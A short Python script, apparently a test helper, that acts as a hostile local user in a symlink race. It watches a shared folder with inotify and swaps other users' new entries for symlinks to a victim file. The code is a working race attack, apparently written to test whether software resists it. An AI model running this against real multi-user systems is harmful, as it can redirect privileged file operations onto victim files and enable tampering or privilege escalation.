"""A hostile user's side of the socket-folder race: watches a folder with inotify and, the
moment an entry of another user's appears, tries to move it away and put a symlink to the
victim file in its place (and in it, when it is a folder). Run as that user:

    setpriv --reuid=65534 ... python3 symlink_swapper.py FOLDER VICTIM

Prints "ready" once the watch is set; exits when stdin closes."""
import ctypes
import os
import select
import struct
import sys

IN_CREATE, IN_MOVED_TO = 0x100, 0x80
EVENT = struct.Struct("iIII")


def swap(folder, name, victim):
    path = os.path.join(folder, name)
    try:
        if os.lstat(path).st_uid == os.getuid():
            return  # its own symlinks
    except OSError:
        return
    for target in (path, os.path.join(path, "s")):
        try:
            os.rename(target, target + ".swapped")
        except OSError:
            pass
        try:
            os.symlink(victim, target)
        except OSError:
            pass


def main():
    folder, victim = sys.argv[1], sys.argv[2]
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(os.O_NONBLOCK)
    if fd < 0 or libc.inotify_add_watch(fd, folder.encode(), IN_CREATE | IN_MOVED_TO) < 0:
        raise OSError(ctypes.get_errno(), "inotify")
    print("ready", flush=True)
    while True:
        readable, _, _ = select.select([fd, sys.stdin], [], [])
        if sys.stdin in readable and not sys.stdin.read(1):
            return
        if fd in readable:
            data = os.read(fd, 65536)
            offset = 0
            while offset < len(data):
                _, _, _, length = EVENT.unpack_from(data, offset)
                name = data[offset + EVENT.size:offset + EVENT.size + length].rstrip(b"\0").decode()
                offset += EVENT.size + length
                if name:
                    swap(folder, name, victim)


main()
